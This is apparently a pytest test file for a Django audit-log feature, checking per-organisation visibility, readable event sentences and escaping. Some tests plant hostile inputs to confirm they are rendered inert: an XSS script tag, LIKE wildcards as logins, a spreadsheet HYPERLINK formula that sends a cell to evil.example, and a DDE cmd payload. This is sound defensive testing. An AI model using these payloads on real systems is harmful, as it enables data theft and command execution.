"""The audit log is each organisation's own security story, in sentences people can read.

An administrator sees the sign-ins and failed sign-ins of their organisation's staff and
people, HR's exports, publications, role changes and changes to targets, rules and
populations, and nothing of another organisation's; the page's query count does not grow
with the log.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from contextlib import contextmanager
from typing import Any

import pytest
from allauth.account.models import EmailAddress
from django.contrib.auth import authenticate
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from lup import audit, roles, scoping
from lup.audit import _current_request, describe, record_event
from lup.demo.seed import current_demo_totp_code
from lup.innovation import sharing
from lup.models import AuditEvent, CompletionRule
from tests.courses.factories import CourseFactory, ModuleFactory
from tests.factories import ProgrammeFactory, SectorFactory
from tests.roles import build_world

pytestmark = pytest.mark.django_db

PASSWORD = "a-long-password-2026"
AUDIT_LOG = reverse("lup:audit-log")
PARTICIPANT_EXPORT = reverse("lup:report-participants-export")


@pytest.fixture
def world():
    return build_world()


@contextmanager
def acting_as(person):
    """What `AuditActorMiddleware` does for a request: the person who acts is known."""
    request = type("Request", (), {"user": person, "META": {"REMOTE_ADDR": "10.0.0.9"}})()
    token = _current_request.set(request)
    try:
        yield
    finally:
        _current_request.reset(token)


def can_sign_in(person):
    person.set_password(PASSWORD)
    person.save()
    EmailAddress.objects.get_or_create(
        user=person, email=person.email, defaults={"verified": True, "primary": True}
    )


def sign_in_with_password_and_code(client, person):
    first = client.post(reverse("account_login"), {"login": person.email, "password": PASSWORD})
    assert first.url.startswith(reverse("mfa_authenticate"))
    client.post(reverse("mfa_authenticate"), {"code": current_demo_totp_code()})
    client.logout()


def baerums_story(client, world):
    """What happened in Bærum: HR signs in and exports, someone fails to sign in as the
    manager, the manager publishes, the enthusiast gets a role and staff access, and the
    administrator raises the target and narrows the population."""
    hr, manager, enthusiast = (world.people[r] for r in ("hr", "manager", "enthusiast"))
    can_sign_in(hr)
    can_sign_in(manager)
    sign_in_with_password_and_code(client, hr)
    client.post(reverse("account_login"), {"login": "MANAGER@example.no", "password": "guess"})

    client.force_login(hr)
    response = client.get(PARTICIPANT_EXPORT, {"preset": "default", "format": "csv"})
    b"".join(response.streaming_content)
    client.logout()

    sharing.publish_project(project=world.project, user=manager, licence="CC-BY-4.0", consent=True)

    administrator = world.people["administrator"]
    with acting_as(administrator):
        enthusiast.groups.add(roles.ensure_role_groups()[roles.FACILITATORS_GROUP])
        enthusiast.is_staff = True
        enthusiast.save()
        programme = world.programme
        programme.target_units = programme.target_units + 5
        programme.save()
        programme.population_sectors.add(SectorFactory(name="Helse og omsorg"))


def page_text(client, person, **params) -> str:
    client.force_login(person)
    response = client.get(AUDIT_LOG, params)
    assert response.status_code == 200
    return response.content.decode()


def test_baerums_administrator_reads_baerums_story_in_sentences(client, world, english_site):
    target_before = world.programme.target_units
    baerums_story(client, world)

    html = page_text(client, world.people["administrator"])

    # HR's sign-in (HR is on no team: staff are in the story too) and the failed one.
    visible = scoping.audit_events_for(world.people["administrator"])
    hr = world.people["hr"]
    assert visible.filter(action=AuditEvent.Action.LOGIN, subject=hr).exists()
    failed = visible.get(action=AuditEvent.Action.LOGIN_FAILED)
    assert failed.subject == world.people["manager"]
    assert failed.subject_label == "manager@example.no"  # as allauth passed it on
    # HR's export, said in words.
    assert visible.filter(action=AuditEvent.Action.REPORT_EXPORTED, actor=hr).exists()
    assert "Report: Participants, columns “default”" in html
    assert "Downloaded in the browser" in html
    assert "4 rows as CSV" in html
    # The publication, the role change, the target and the population.
    assert "Project published with consent" in html
    assert "Shared in the catalogue under the licence CC BY 4.0" in html
    assert "Given the role Facilitators" in html
    assert "Given staff access to the admin" in html
    assert f"Target (units) changed from {target_before} to {target_before + 5}" in html
    assert "Sectors in scope changed from every sector to Helse og omsorg" in html
    # Never the code the events were written with.
    for code in ("is_staff", "post_add", "True", "{&#x27;", "target_units", "channel"):
        assert code not in html, code


def test_another_organisations_administrator_sees_none_of_it(client, world, english_site):
    baerums_story(client, world)
    other = world.people["other_administrator"]
    # A failed sign-in with a Bærum address that matched no single account when written.
    record_event(action=AuditEvent.Action.LOGIN_FAILED, subject_label="Hr@Example.no")
    # And Asker's own: its administrator's sign-in.
    client.force_login(other)
    client.logout()

    visible = scoping.audit_events_for(other)

    labels = set(visible.values_list("subject_label", flat=True))
    assert other.email in labels
    baerum = {world.people[role].email for role in ("administrator", "hr", "facilitator")}
    baerum |= {world.people[role].email for role in ("manager", "enthusiast", "other_manager")}
    baerum |= {"Hr@Example.no", world.programme.name, world.project.title, "participants:default"}
    assert not labels & baerum
    assert not visible.filter(action=AuditEvent.Action.REPORT_EXPORTED)
    html = page_text(client, other)
    for text in (">hr@example.no", ">manager@example.no", "Hr@Example.no", "Digitalt"):
        assert text not in html, text
    assert "Helse og omsorg" not in html
    assert "CC BY 4.0" not in html
    # Bærum's administrator sees the old-style failed sign-in, matched by its address.
    baerums_log = scoping.audit_events_for(world.people["administrator"])
    assert baerums_log.filter(subject_label="Hr@Example.no", subject=None).exists()


def test_an_administrator_sees_exactly_the_people_who_belong_to_their_organisation(world):
    """The rule against `organisations_of`: a sign-in shows for each person iff they belong."""
    baerum = world.programme.organisation
    for person in world.people.values():
        if person is not None:
            record_event(action=AuditEvent.Action.LOGIN, subject=person, actor=person)

    visible = set(
        scoping.audit_events_for(world.people["administrator"])
        .filter(action=AuditEvent.Action.LOGIN)
        .values_list("subject_id", flat=True)
    )

    expected = {
        person.pk
        for person in world.people.values()
        if person is not None and baerum in scoping.organisations_of(person)
    }
    assert visible == expected
    assert world.people["other_administrator"].pk not in visible
    assert world.people["superuser"].pk not in visible
    assert {world.people[r].pk for r in ("hr", "facilitator", "enthusiast")} <= visible


def test_a_failed_sign_in_names_the_one_account_it_tried(client, world):
    attempts = ["Enthusiast@EXAMPLE.no", "nobody@example.no", "%", "%@example.no", "_"]
    for login in attempts:
        authenticate(request=None, username=login, password="guess")
    client.post(reverse("account_login"), {"login": "Manager@Example.NO", "password": "guess"})

    subjects = dict(
        AuditEvent.objects.filter(action=AuditEvent.Action.LOGIN_FAILED).values_list(
            "subject_label", "subject_id"
        )
    )
    assert subjects.pop("Enthusiast@EXAMPLE.no") == world.people["enthusiast"].pk
    assert subjects.pop("manager@example.no") == world.people["manager"].pk
    assert subjects == dict.fromkeys(attempts[1:])
    # A LIKE pattern typed as the address matches no one, so no organisation is shown it.
    for role in ("administrator", "other_administrator"):
        labels = set(
            scoping.audit_events_for(world.people[role]).values_list("subject_label", flat=True)
        )
        assert not labels & set(attempts[1:]), role


def test_an_export_by_the_server_command_is_filed_under_its_organisation(world, tmp_path):
    call_command("export_completions", organisation="baerum", out=str(tmp_path / "out.csv"))

    export = AuditEvent.objects.get(action=AuditEvent.Action.REPORT_EXPORTED)
    assert export.actor is None  # no one signed in: the organisation files it
    assert scoping.audit_events_for(world.people["administrator"]).filter(pk=export.pk)
    assert not scoping.audit_events_for(world.people["other_administrator"]).filter(pk=export.pk)


def test_an_administrator_of_no_organisation_sees_only_what_they_did(world, administrator):
    record_event(action=AuditEvent.Action.LOGIN, subject=world.people["hr"])
    record_event(action=AuditEvent.Action.LOGIN_FAILED, subject_label="")
    own = record_event(action=AuditEvent.Action.ROLE_CHANGED, actor=administrator, is_staff=True)

    assert list(scoping.audit_events_for(administrator)) == [own]


def test_a_superuser_reads_every_organisations_log_and_others_none(world):
    record_event(action=AuditEvent.Action.LOGIN, subject=world.people["other_administrator"])
    record_event(action=AuditEvent.Action.LOGIN, subject=world.people["enthusiast"])

    assert scoping.audit_events_for(world.people["superuser"]).count() == AuditEvent.objects.count()
    for role in ("hr", "manager", "facilitator", "enthusiast"):
        assert not scoping.audit_events_for(world.people[role]).exists(), role


# Changes to targets, rules and populations --------------------------------------------------


def changes(programme):
    events = AuditEvent.objects.filter(
        action=AuditEvent.Action.PROGRAMME_CHANGED, subject_label=programme.name
    ).order_by("pk")
    return [event.details["changes"] for event in events]


def test_target_deadline_and_population_changes_are_recorded_old_to_new(world):
    programme = world.programme
    old_target, old_deadline = programme.target_units, programme.deadline
    administrator = world.people["administrator"]

    with acting_as(administrator):
        programme.target_units = old_target + 3
        programme.deadline = old_deadline + dt.timedelta(days=30)
        programme.name = "Renamed, not audited"
        programme.save()
        programme.population_size_override = 120
        programme.save(update_fields=["population_size_override"])
        programme.save()  # nothing changed: nothing recorded

    events = AuditEvent.objects.filter(action=AuditEvent.Action.PROGRAMME_CHANGED)
    assert [e.details["changes"] for e in events.order_by("pk")] == [
        {
            "deadline": {
                "before": old_deadline.isoformat(),
                "after": (old_deadline + dt.timedelta(days=30)).isoformat(),
            },
            "target_units": {"before": old_target, "after": old_target + 3},
        },
        {"population_size_override": {"before": None, "after": 120}},
    ]
    assert {event.actor for event in events} == {administrator}
    assert {event.details["organisation_id"] for event in events} == {programme.organisation_id}


def test_sectors_in_scope_are_recorded_as_the_set_before_and_after(world):
    programme = world.programme
    health, school = SectorFactory(name="Helse"), SectorFactory(name="Skole")

    programme.population_sectors.add(health, school)
    programme.population_sectors.add(health)  # already there: no change
    programme.population_sectors.remove(school)
    programme.population_sectors.clear()

    assert changes(programme) == [
        {"population_sectors": {"before": [], "after": ["Helse", "Skole"]}},
        {"population_sectors": {"before": ["Helse", "Skole"], "after": ["Helse"]}},
        {"population_sectors": {"before": ["Helse"], "after": []}},
    ]


def test_the_completion_rule_is_recorded_from_the_defaults_on(world):
    programme = world.programme

    rule = CompletionRule.objects.create(programme=programme, min_enthusiasts=2)
    rule.min_attendance = 3
    rule.require_project_approval = True
    rule.save()
    rule.save(update_fields=["min_attendance"])  # unchanged
    rule.delete()

    assert changes(programme) == [
        {"min_enthusiasts": {"before": 1, "after": 2}},
        {
            "min_attendance": {"before": 0, "after": 3},
            "require_project_approval": {"before": False, "after": True},
        },
        {
            "min_enthusiasts": {"before": 2, "after": 1},
            "min_attendance": {"before": 3, "after": 0},
            "require_project_approval": {"before": True, "after": False},
        },
    ]


def test_the_rules_required_modules_and_the_curriculum_are_recorded(world):
    programme = world.programme
    course = CourseFactory(title="LUP-kurs")
    theory: Any = ModuleFactory(course=course, title="Teori")
    practice: Any = ModuleFactory(course=course, title="Praksis")
    programme.course = course
    programme.save()
    rule = CompletionRule.objects.create(programme=programme)  # the defaults: no change

    rule.required_modules.set([theory, practice])
    rule.required_modules.set([practice])
    rule.delete()

    assert changes(programme) == [
        {"course": {"before": None, "after": "LUP-kurs"}},
        {"required_modules": {"before": [], "after": ["Praksis", "Teori"]}},
        {"required_modules": {"before": ["Praksis", "Teori"], "after": ["Praksis"]}},
        {"required_modules": {"before": ["Praksis"], "after": []}},
    ]


def test_a_programme_moved_to_another_organisation_shows_in_both_logs(world):
    programme = world.programme
    programme.organisation = world.other_programme.organisation
    programme.save()

    (change,) = changes(programme)
    assert change == {"organisation": {"before": "Bærum kommune", "after": "Asker kommune"}}
    for role in ("administrator", "other_administrator"):
        assert (
            scoping.audit_events_for(world.people[role])
            .filter(action=AuditEvent.Action.PROGRAMME_CHANGED)
            .exists()
        ), role


def test_a_new_programme_records_nothing_and_an_others_change_stays_with_them(world):
    ProgrammeFactory(organisation=world.other_programme.organisation)
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.PROGRAMME_CHANGED).exists()

    other = world.other_programme
    other.target_units += 1
    other.save()

    assert not scoping.audit_events_for(world.people["administrator"]).filter(
        action=AuditEvent.Action.PROGRAMME_CHANGED
    )
    assert scoping.audit_events_for(world.people["other_administrator"]).filter(
        action=AuditEvent.Action.PROGRAMME_CHANGED
    )


# Sentences -----------------------------------------------------------------------------------


def event(action, **details):
    return AuditEvent(action=action, details=details)


@pytest.mark.usefixtures("english")
@pytest.mark.parametrize(
    ("details", "sentences"),
    [
        ({"is_staff": True}, ["Given staff access to the admin"]),
        ({"is_staff": False}, ["Staff access to the admin removed"]),
        (
            {"is_superuser": True, "is_active": False},
            [
                "Made superuser: every permission in every organisation",
                "Account deactivated: can no longer sign in",
            ],
        ),
        (
            {"change": "post_remove", "groups": ["HR", "Programme administrators"]},
            ["Roles taken away: HR, Programme administrators"],
        ),
        ({"change": "pre_clear", "groups": ["HR"]}, ["Every role taken away: HR"]),
        (
            {"change": "post_add", "facilitator_of": "LUP 1"},
            ["Made facilitator of the cohort LUP 1"],
        ),
        (
            {"change": "post_remove", "member_of": "Bærum kommune"},
            ["No longer a member of Bærum kommune"],
        ),
        (
            {"unit": "Sørbråten", "cohort": "LUP 1", "role_before": "enthusiast"}
            | {"role_after": "manager"},
            ["Role on the team of Sørbråten (LUP 1) changed from Enthusiast to Manager"],
        ),
        ({"groups": 5, "change": "post_add"}, ["Groups: 5", "Change: post_add"]),
        ({"brand_new_key": True}, ["Brand new key: yes"]),
    ],
)
def test_role_changes_read_as_sentences(details, sentences):
    assert describe(event(AuditEvent.Action.ROLE_CHANGED, **details)) == sentences


def test_export_filters_are_named_and_dates_read_as_dates(world, english):
    cohort = world.cohort_a
    export = event(
        AuditEvent.Action.REPORT_EXPORTED,
        report="units",
        preset="default",
        format="xlsx",
        rows=1,
        complete=False,
        channel="scheduled",
        filters={"cohort": cohort.pk, "status": "completed", "completed_from": "2026-01-31"},
    )

    lines = describe(export, audit.names_for([export]))

    assert lines == [
        "Report: Units, columns “default”",
        "1 row as XLSX (Excel)",
        "Delivered by a scheduled export",
        "Stopped before the end: the file is incomplete",
        f"Filtered by cohort {cohort.name}, status completed, completed from 01/31/2026",
    ]


@pytest.mark.usefixtures("english")
def test_other_kinds_read_as_sentences():
    assert describe(event(AuditEvent.Action.PROGRAMME_CHANGED, changes={})) == []
    assert describe(
        event(
            AuditEvent.Action.PROGRAMME_CHANGED,
            programme="LUP",
            organisation_id=1,
            changes={
                "population_size_override": {"before": 100, "after": None},
                "require_project_approval": {"before": False, "after": True},
                "required_modules": {"before": [], "after": ["Innovasjon"]},
                "deadline": {"before": "2027-06-30", "after": "2027-12-31"},
            },
        )
    ) == [
        "Fixed population size changed from 100 to none (counted from the unit register)",
        "Innovation project must be approved changed from no to yes",
        "Required modules changed from every module of the curriculum to Innovasjon",
        "Target deadline changed from 06/30/2027 to 12/31/2027",
    ]
    assert describe(event(AuditEvent.Action.TENANT_REFUSED, attempted="anonymise")) == [
        "Tried to anonymise the person"
    ]
    assert describe(
        event(
            AuditEvent.Action.COMPLETION_WITHDRAWN,
            unit="U1",
            cohort="LUP 1",
            reason="project approval withdrawn",
            at="2026-01-01T10:00:00+00:00",
        )
    ) == [
        "The completion of U1 in LUP 1 was withdrawn",
        "The innovation project's approval was withdrawn",
    ]
    assert describe(event(AuditEvent.Action.SIGN_IN_LINKED, service="ID-porten")) == [
        "Signs in with ID-porten from now on"
    ]


@pytest.mark.usefixtures("english")
def test_a_stopped_schedule_reads_in_the_readers_language():
    stopped = event(
        AuditEvent.Action.SCHEDULE_STOPPED,
        schedule=7,
        schedule_name="Månedsrapport",
        organisation="Bærum kommune",
        reason="owner_left",
        explanation="Eieren jobber ikke lenger for organisasjonen",
        destination="folder",
    )

    assert describe(stopped) == [
        "Schedule “Månedsrapport”",
        "For Bærum kommune",
        "The owner no longer works for the organisation",
        "Destination: folder",
    ]


def test_the_labels_kept_here_cover_the_features_values():
    """The features sit above lup.audit, which keeps their values' labels: held together."""
    from lup.innovation.models import Licence
    from lup.reporting.models import ApiToken, ExportFormat, ReportKind, ScheduledExport

    assert set(audit.LICENCE_LABELS) == set(Licence.values)
    assert set(audit.REPORT_LABELS) == set(ReportKind.values)
    assert set(audit.FORMAT_LABELS) >= set(ExportFormat.values)
    assert set(audit.TOKEN_SCOPE_LABELS) == set(ApiToken.Scope.values)
    assert set(audit.STOP_REASONS) == set(ScheduledExport.StopReason.values)
    assert {key: str(label) for key, label in audit.STOP_REASONS.items()} == {
        key: str(label) for key, label in ScheduledExport.StopReason.choices
    }


def test_labels_are_in_the_readers_language_when_read_not_when_written():
    """Labels that bokmål already has: the same event reads in each reader's language."""
    token = event(AuditEvent.Action.API_TOKEN_CREATED, scope="write")
    with translation.override("nb"):
        norwegian = describe(token)
    with translation.override("en"):
        english = describe(token)

    assert english == ["Access: Read and write"]
    assert "Lese og skrive" in norwegian[0]


def test_the_group_labels_name_every_role_group():
    assert set(audit.GROUP_LABELS) == {
        roles.ADMINISTRATORS_GROUP,
        roles.FACILITATORS_GROUP,
        roles.HR_GROUP,
        roles.PRIZE_JURY_GROUP,
    }


def test_names_written_into_the_log_are_escaped_on_the_page(client, world, english_site):
    record_event(
        action=AuditEvent.Action.ROLE_CHANGED,
        subject=world.people["enthusiast"],
        change="post_add",
        facilitator_of="<script>alert(1)</script>",
    )

    html = page_text(client, world.people["administrator"])

    assert "<script>alert(1)</script>" not in html
    assert "Made facilitator of the cohort &lt;script&gt;" in html


def test_an_unknown_event_kind_in_the_filter_is_ignored(client, world):
    html = page_text(client, world.people["administrator"], action='"><script>')
    assert "<script>" not in html


def test_the_page_makes_the_same_queries_however_long_the_log(client, world):
    administrator = world.people["administrator"]
    client.force_login(administrator)

    def add_events(count):
        for n in range(count):
            record_event(action=AuditEvent.Action.LOGIN, subject=world.people["hr"])
            record_event(
                action=AuditEvent.Action.REPORT_EXPORTED,
                actor=world.people["hr"],
                report="participants",
                preset="default",
                format="csv",
                rows=n,
                complete=True,
                channel="browser",
                filters={
                    "cohort": world.cohort_a.pk,
                    "programme": world.programme.pk,
                    "unit": world.team_u1.unit_id,
                },
            )
            record_event(action=AuditEvent.Action.LOGIN_FAILED, subject_label="hr@example.no")
            world.programme.population_sectors.add(SectorFactory())

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(AUDIT_LOG).status_code == 200
        return len(captured)

    add_events(2)
    few = queries()
    add_events(20)
    many = queries()

    assert many == few
    assert few <= 15


# The dashboard's figures ---------------------------------------------------------------------


def test_the_dashboard_csv_writes_hostile_sector_and_cohort_names_inert(client, world):
    sector = world.team_u1.unit.sector
    sector.name = '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")'
    sector.save()
    world.cohort_a.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.cohort_a.save()
    world.programme.name = "+LUP"
    world.programme.save()
    client.force_login(world.people["administrator"])

    response = client.get(reverse("lup:dashboard-csv", args=[world.programme.slug]))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + sector.name in cells
    assert "'" + world.cohort_a.name in cells
    assert "'+LUP" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]


def test_the_admins_audit_page_shows_sentences_not_data(client, db, english_site):
    from tests.factories import UserFactory
    from tests.roles import with_two_factor

    root = with_two_factor(
        UserFactory(email="root-audit@example.no", is_superuser=True, is_staff=True)
    )
    person = UserFactory(email="someone@example.no")
    person.is_staff = True
    person.save()
    event = AuditEvent.objects.filter(subject=person, action=AuditEvent.Action.ROLE_CHANGED).get()
    client.force_login(root)

    page = client.get(f"/admin/lup/auditevent/{event.pk}/change/").content.decode()

    assert "Given staff access to the admin" in page
    assert "is_staff" not in page
